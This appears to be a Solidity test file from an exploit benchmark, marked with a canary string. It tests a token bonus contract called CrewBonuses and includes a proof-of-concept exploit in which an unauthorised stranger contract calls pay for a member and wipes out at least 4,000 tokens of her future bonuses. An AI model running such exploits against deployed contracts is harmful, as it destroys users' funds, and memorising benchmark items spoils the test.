// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

// assay-canary-ec6f9a70-de28-4c12-85a6-06ad7ee89f8d

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./CrewBonuses.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    constructor() ERC20("Token", "TOK") {
        _mint(msg.sender, 1_000_000e18);
    }
}

contract Attacker {
    function ask(CrewBonuses crew, address member) external {
        crew.pay(member);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);
    uint256 private constant START = 1_774_100_000;

    Token public token;
    CrewBonuses public crew;
    Attacker public stranger;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        crew = new CrewBonuses(token, address(this));
        token.approve(address(crew), type(uint256).max);
        crew.grant(ANNA, 52, 100e18);
        crew.grant(ANNA, 2, 50e18);
        crew.grant(BELA, 2, 10e18);
        stranger = new Attacker();
    }

    function test_Regular() public {
        require(crew.granted() == 5_320e18 && crew.toCome(ANNA) == 5_300e18, "granted");
        vm.warp(START + 10 days);
        require(crew.pay(ANNA) == 150e18 && crew.pay(BELA) == 10e18 && crew.firstOf(BELA) == 0, "a week");
        crew.grant(BELA, 4, 20e18);
        vm.warp(START + 3 weeks);
        require(crew.pay(BELA) == 30e18 && crew.firstOf(BELA) == 1 && crew.toCome(BELA) == 60e18, "two weeks");
        vm.warp(START + 104 weeks);
        require(crew.pay(BELA) == 60e18 && crew.firstOf(BELA) == 2, "all");
        require(token.balanceOf(BELA) == 100e18 && token.balanceOf(ANNA) == 150e18, "balances");
        token.transfer(address(crew), 7e18);
        require(crew.reclaim() == 7e18, "reclaimed");
        crew.transferOwnership(BELA);
        vm.prank(BELA);
        crew.renounceOwnership();
    }

    function test_Refuses() public {
        vm.expectRevert(abi.encodeWithSelector(BonusBook.BadTerm.selector, 0));
        crew.grant(ANNA, 0, 1);
        vm.expectRevert(abi.encodeWithSelector(BonusBook.BadTerm.selector, 105));
        crew.grant(ANNA, 105, 1);
        vm.expectRevert(abi.encodeWithSelector(CrewBonuses.NothingDue.selector, ANNA));
        crew.pay(ANNA);
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        crew.grant(BELA, 1, 1);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        crew.reclaim();
        vm.stopPrank();
    }

    /// What a member has, and what its bonuses will still bring.
    function fortune() external view returns (uint256) {
        return token.balanceOf(ANNA) + crew.toCome(ANNA);
    }

    function exploit() public {
        vm.warp(START + 2 weeks);
        stranger.ask(crew, ANNA);
    }

    function test_Exploit() public {
        uint256 before = this.fortune();
        exploit();
        require(this.fortune() + 4_000e18 <= before, "no loss");
    }

    function target() public view returns (address) {
        return address(crew);
    }

    function attacker() public view returns (address) {
        return address(stranger);
    }
}
